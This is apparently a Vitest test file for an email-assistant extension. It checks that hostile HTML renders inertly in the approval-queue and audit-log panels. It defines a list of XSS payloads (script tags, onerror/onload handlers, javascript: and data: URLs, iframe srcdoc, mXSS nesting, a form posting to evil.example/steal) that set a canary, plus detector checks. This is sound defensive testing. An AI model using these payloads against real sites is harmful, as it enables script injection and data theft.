// @vitest-environment happy-dom
import { beforeEach, describe, expect, it } from 'vitest';
import type { CountersignDb } from '../../lib/db/schema';
import { queueDraft } from '../../lib/gates/email-gate';
import { appendAudit, auditedTransaction } from '../../lib/audit/log';
import { decodedMessage, seedDraft } from '../../test/fixtures';
import { realBackground, renderWithQueries, settle } from '../../test/panel-harness';
import { shadowPanel } from '../../test/shadow-panel';
import { ApprovalQueue } from '../approvals/ApprovalQueue';
import { AuditLog } from '../audit/AuditLog';

/**
 * XSS: hostile HTML in email bodies, sender names, subjects and audit details is inert in the
 * panels, rendered by the real components over the real background. After rendering, the panel's
 * DOM holds no script, no event-handler attribute, no javascript:/data: URL, no iframe, form or
 * object, and the canary (window.__pwned) is never set.
 *
 * lib/mail/sanitise.test.ts covers the sanitiser itself.
 */

const CANARY = 'window.__pwned=1';
export const HOSTILE = [
  `<script>${CANARY}</script>`,
  `<img src=x onerror="${CANARY}">`,
  `<a href="javascript:${CANARY}">click</a>`,
  `<svg onload="${CANARY}"><script>${CANARY}</script></svg>`,
  `<div style="background:url(javascript:${CANARY});width:expression(${CANARY})">css</div>`,
  `<iframe src="javascript:${CANARY}"></iframe><iframe srcdoc="<script>${CANARY}</script>"></iframe>`,
  `<form action="https://evil.example/steal"><input name=p><button formaction="javascript:${CANARY}">go</button></form>`,
  `<a href="data:text/html,<script>${CANARY}</script>">data</a><object data="data:text/html,x"></object><embed src="x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CANARY}">`,
  `"><img src=x onerror=${CANARY}>`,
].join('\n');

const bg = realBackground();
const panel = shadowPanel('countersign-xss');
let db: CountersignDb;

beforeEach(() => {
  db = bg.db();
  delete (window as { __pwned?: unknown }).__pwned;
});

function expectInert(root: ShadowRoot | null) {
  expect(root).not.toBeNull();
  const all = [...root!.querySelectorAll('*')];
  expect(all.length).toBeGreaterThan(3); // something was rendered
  expect(root!.querySelectorAll('script, iframe, object, embed, form, frame, frameset, base, meta[http-equiv]')).toHaveLength(0);
  for (const el of all) {
    for (const attr of [...el.attributes]) {
      expect(attr.name, `${el.tagName} has ${attr.name}`).not.toMatch(/^on/i);
      if (/^(href|src|action|formaction|xlink:href|srcdoc|data|style)$/i.test(attr.name)) expect(attr.value, `${el.tagName} ${attr.name}`).not.toMatch(/javascript:|data:text\/html|expression\(|vbscript:/i);
    }
  }
  expect((window as { __pwned?: unknown }).__pwned).toBeUndefined();
}

describe('hostile HTML is inert in every panel', () => {
  it('the approval queue: hostile subject, body, recipient name and the inbound message it replies to (HTML, sender name)', async () => {
    const threadId = '18c2f1a9b7e4d3c0';
    const inbound = decodedMessage({ id: 'in-1', threadId, from: { name: `Dana ${HOSTILE.slice(0, 150)}`, email: 'dana@northwind-logistics.com' }, subject: HOSTILE, body: HOSTILE, html: `<p>Hi</p>${HOSTILE}` });
    await db.threads.put({ id: threadId, snapshot: { id: threadId, subject: HOSTILE, historyId: '1', messages: [inbound], fetchedAt: Date.now() }, updatedAt: Date.now() });
    const draft = await seedDraft(db, { subject: `Re: ${HOSTILE}`.slice(0, 900), body: HOSTILE, to: [{ name: HOSTILE.slice(0, 200), email: 'dana@northwind-logistics.com' }] });
    const ok = { verdict: 'ok' as const, blocking: [], warnings: [], sentences: [], metrics: { words: 0, readingGrade: 0, personalisationShare: 0, callsToAction: 0, links: 0 }, generic: null };
    await queueDraft(db, draft.id, { type: 'agent', id: 'herald' }, { subject: draft.message.subject, body: draft.message.body, report: ok });
    await renderWithQueries(panel.root(), <ApprovalQueue />);
    await settle();
    const root = panel.host().shadowRoot;
    // The hostile text is shown (as text), not dropped: the rep must be able to see what came in.
    expect(root!.textContent).toContain('onerror');
    expectInert(root);
    // Expand everything expandable (details, "show message" buttons) and check again.
    for (const d of root!.querySelectorAll('details')) d.setAttribute('open', '');
    await settle();
    expectInert(root);
  });

  it('the audit log: hostile subjects, actors and details', async () => {
    await auditedTransaction(db, [], async () => {
      await appendAudit(db, { actor: { type: 'system', id: HOSTILE.slice(0, 90) }, action: `email.${HOSTILE.slice(0, 40)}`, subjectId: HOSTILE.slice(0, 90), detail: { note: HOSTILE, to: HOSTILE } });
      await appendAudit(db, { actor: { type: 'human', id: 'rep' }, action: 'crm.sync_applied', subjectId: 'x', detail: { title: HOSTILE } });
    });
    await renderWithQueries(panel.root(), <AuditLog />);
    await settle();
    const root = panel.host().shadowRoot;
    expect(root!.textContent).toContain('onerror');
    expectInert(root);
  });
});
